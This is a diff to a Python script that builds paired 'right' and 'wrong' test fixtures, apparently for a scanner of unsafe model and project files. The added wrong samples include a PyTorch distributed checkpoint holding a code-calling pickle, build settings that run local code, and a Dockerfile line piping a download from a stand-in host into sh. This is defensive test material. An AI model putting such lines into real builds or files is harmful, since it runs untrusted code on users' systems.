@@ -321,3 +321,37 @@ def exported(inputs):
 
 put("torch-export/right.pt2", exported(b"\x80\x02N."))
 put("torch-export/wrong.pt2", exported(CALL))
+
+
+# Distributed checkpoints of PyTorch. The right one is as PyTorch 2.9 wrote it; of the wrong one an object calls.
+def places(parts):
+    text = lambda value: b"X" + struct.pack("<I", len(value)) + value.encode()
+    number_ = lambda value: b"J" + struct.pack("<i", value)
+    out = b"\x80\x02ctorch.distributed.checkpoint.metadata\nMetadata\n)\x81}" + text("storage_data") + b"}("
+    for name, (offset, length) in parts:
+        out += b"ctorch.distributed.checkpoint.metadata\nMetadataIndex\n)\x81}" + text("fqn") + text(name) + b"sb"
+        out += b"ctorch.distributed.checkpoint.filesystem\n_StorageInfo\n)\x81}(" + text("relative_path")
+        out += text("__0_0.distcp") + text("offset") + number_(offset) + text("length") + number_(length) + b"ub"
+    return out + b"usb."
+
+
+def saved(pickle):
+    return zipped([("archive/data.pkl", pickle), ("archive/byteorder", b"little"), ("archive/version", b"3\n")])
+
+
+first, second = saved(b"\x80\x02}."), saved(CALL)
+put("torch-distcp/wrong/.metadata", places([("a", (0, len(first))), ("b", (len(first), len(second)))]))
+put("torch-distcp/wrong/__0_0.distcp", first + second)
+
+# Settings: the wrong ones have a build run code of the folder, or what it downloads.
+put("toml/right.toml", b'a = 1\n[b]\nc = ["d"]\n')
+put("toml/wrong.toml", b"a = 1\na = 2\n")
+BUILD = b'[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "setuptools.build_meta"\n'
+put("python-project/right/pyproject.toml", BUILD + b'[project]\nname = "a"\nversion = "1"\ndependencies = ["numpy==1.26.4"]\n')
+put("python-project/wrong/pyproject.toml", BUILD + b'backend-path = ["."]\n')
+OPTIONS = b"[metadata]\nname = a\nversion = 1\n\n[options]\ninstall_requires =\n    numpy==1.26.4\n"
+put("ini/right/setup.cfg", OPTIONS)
+put("ini/wrong/setup.cfg", OPTIONS + b"cmdclass =\n    build_py = a.Build\n")
+IMAGE = b"FROM python:3.11-slim\nCOPY requirements.txt .\nRUN pip install -r requirements.txt\n"
+put("dockerfile/right/Dockerfile", IMAGE)
+put("dockerfile/wrong/Dockerfile", IMAGE + b"RUN curl https://models.invalid/a | sh\n")
